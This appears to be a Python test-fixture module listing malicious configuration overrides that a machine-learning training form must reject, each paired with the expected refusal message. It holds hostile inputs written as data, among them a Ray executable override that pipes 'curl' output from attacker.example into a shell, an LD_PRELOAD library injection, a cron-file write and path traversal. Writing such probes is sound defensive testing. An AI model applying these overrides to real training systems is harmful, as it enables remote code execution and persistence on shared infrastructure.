"""Issue 46's probes of the trigger form: verl overrides a form user typed to run code on the training pods, write
outside the run or size a run without bound. ``tests/unit/pipeline_steps/training/test_form_allow_list.py`` sends each
through the real ``plan``; ``tests/unit/dags/test_dag.py`` through the DAG's form schema."""

from __future__ import annotations

PRESET_INSTEAD = "set it in a preset (a YAML file under $PIPELINE_PRESETS_DIR"

# (override typed into the form, extra form fields, what the one-line refusal must say)
PROBES = [
    (
        "+ray_kwargs.ray_init.runtime_env.py_executable=\"bash -c 'curl -s http://attacker.example/x | sh'\"",
        {},
        "'ray_kwargs.ray_init.runtime_env.py_executable' configures Ray itself",
    ),
    ("+ray_kwargs.ray_init.runtime_env.pip=[evil-package==1.0]", {}, "'ray_kwargs.ray_init.runtime_env.pip'"),
    (
        "+ray_kwargs.ray_init.runtime_env.worker_process_setup_hook=evil.setup",
        {},
        "'ray_kwargs.ray_init.runtime_env.worker_process_setup_hook'",
    ),
    (
        "+ray_kwargs.ray_init.runtime_env.env_vars.LD_PRELOAD=/tmp/evil.so",
        {},
        "'ray_kwargs.ray_init.runtime_env.env_vars.LD_PRELOAD'",
    ),
    ("+ray_kwargs.ray_init.address=ray://elsewhere.example:10001", {}, "'ray_kwargs.ray_init.address'"),
    ("ray_kwargs.timeline_json_file=/etc/cron.d/evil", {}, "'ray_kwargs.timeline_json_file'"),
    (
        "trainer.rollout_data_dir=/data/store/runs/other/run/rollouts",
        {},
        "'trainer.rollout_data_dir' names a file or directory",
    ),
    ("trainer.validation_data_dir=/tmp/anywhere", {}, "'trainer.validation_data_dir' names a file or directory"),
    (
        "actor_rollout_ref.model.trust_remote_code=true",
        {"model": "attacker/model-with-code"},
        "'actor_rollout_ref.model.trust_remote_code' would run the model repository's own code",
    ),
    ("critic.model.path=/etc", {}, "'critic.model.path' names a file or directory"),
    # anything else outside the table, e.g. the rollout engine's share of GPU memory
    (
        "actor_rollout_ref.rollout.gpu_memory_utilization=0.99",
        {},
        "'actor_rollout_ref.rollout.gpu_memory_utilization' is not a key the form may set",
    ),
]

# keys the form may set, with values out of their range (issue 46 item 2: all were accepted)
OUT_OF_RANGE = [
    ("trainer.total_training_steps=1000000000000", "trainer.total_training_steps=1000000000000 is out of bounds"),
    ("actor_rollout_ref.rollout.response_length=1000000000", "response_length=1000000000 is out of bounds"),
    ("data.max_response_length=1000000000", "data.max_response_length=1000000000 is out of bounds"),
    ("trainer.total_epochs=1000000000", "trainer.total_epochs=1000000000 is out of bounds"),
    ("actor_rollout_ref.rollout.val_kwargs.n=1000000", "val_kwargs.n=1000000 is out of bounds"),
    ("actor_rollout_ref.actor.optim.lr=.inf", "optim.lr=inf is out of bounds"),
    ("actor_rollout_ref.rollout.n=2.5", "rollout.n=2.5 is out of bounds: expected an integer"),
    ("trainer.logger=[console,wandb]", "trainer.logger=['console', 'wandb'] is out of bounds"),
    ("trainer.experiment_name=../../other_run", "trainer.experiment_name='../../other_run' is out of bounds"),
    ("trainer.project_name=" + "p" * 129, "trainer.project_name="),
]
